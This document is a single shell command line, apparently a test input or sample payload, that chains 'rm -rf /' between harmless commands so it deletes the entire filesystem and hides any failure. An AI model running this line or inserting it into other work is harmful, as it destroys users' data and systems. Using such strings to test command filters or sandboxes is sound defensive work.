true && rm -rf / || true
